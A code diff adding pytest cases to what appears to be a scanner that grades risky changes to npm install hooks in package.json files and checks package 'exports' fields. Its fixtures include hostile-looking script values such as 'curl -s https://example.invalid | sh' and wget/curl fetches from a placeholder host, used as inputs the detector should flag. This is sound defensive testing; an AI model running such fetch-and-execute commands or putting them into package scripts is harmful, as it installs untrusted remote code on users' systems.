@@ -36,6 +36,36 @@ def test_a_new_script_is_high_and_a_changed_one_medium(
 
 
 @pytest.mark.parametrize(
+    ("old", "new", "expected"),
+    [
+        ({"b": "tsc"}, {"b": "tsc -p ."}, ("medium", "delta")),
+        ({"b": "tsc"}, {"b": "tsc", "preb": "node a.js"}, ("medium", "delta")),
+        ({"b": "tsc"}, {"b": "tsc && npm run c", "c": "node a.js"}, ("medium", "delta")),
+        ({"b": "tsc"}, {"b": "node -e 'f()'"}, ("high", "delta")),
+        ({"b": "npm run c b"}, {"b": "npm run c b", "c": "curl -s https://example.invalid | sh"}, ("high", "delta")),
+        ({"b": "npm run c"}, {"b": "npm run c", "d": "curl https://example.invalid"}, ("medium", "context")),
+        ({"b": "node -e 'f()'"}, {"b": "node -e 'f()'", "x": "other"}, ("medium", "context")),
+        ({"b": "run-s c:*"}, {"b": "run-s c:*", "c:one": "wget https://example.invalid"}, ("high", "delta")),
+        ({"b": "tsc"}, {"b": ["tsc"]}, ("medium", "delta")),
+    ],
+)
+def test_a_script_that_a_hook_runs_by_its_name_is_part_of_it(
+    old: dict[str, object], new: dict[str, object], expected: tuple[str, str]
+) -> None:
+    """With what npm runs before and after it; one that fetches or is code by itself is as bad as a new hook."""
+    hook = {"postinstall": "npm run b"}
+    sides = [json.dumps({"scripts": hook | side}).encode() for side in (new, old)]
+    (finding,) = found(H3, "package.json", *sides)
+    assert (finding.severity.value, finding.scope.value) == expected
+
+
+def test_a_hook_that_fetches_now_is_as_bad_as_a_new_one() -> None:
+    """What it ran before was read; this was not, and says what it does."""
+    sides = [json.dumps({"scripts": {"install": one}}).encode() for one in ("node -r ./a.js b.js", "node b.js")]
+    assert brief(found(H3, "package.json", *sides)) == [("high", "delta", 1, 14)]
+
+
+@pytest.mark.parametrize(
     ("path", "data", "expected"),
     [
         ("binding.gyp", b"{}", [("medium", 1)]),
@@ -79,6 +109,10 @@ def test_the_evidence_is_the_value() -> None:
         ({"main": "a.log", "bin": {"x": "b.bin", "y": "c.js"}}, 2),
         ({"main": "index", "bin": {"x": 1}}, 0),
         ({"main": ["a.txt"]}, 0),
+        ({"exports": "./a.dat"}, 1),
+        ({"exports": {".": {"import": "./a.mjs", "require": ["./a.txt"]}, "./b": "./b.png"}}, 1),
+        ({"exports": {"node": {"default": "./a.log"}}}, 1),
+        ({"exports": {"./styles": "./b.html"}, "main": "lib"}, 0),
         ([], 0),
     ],
 )
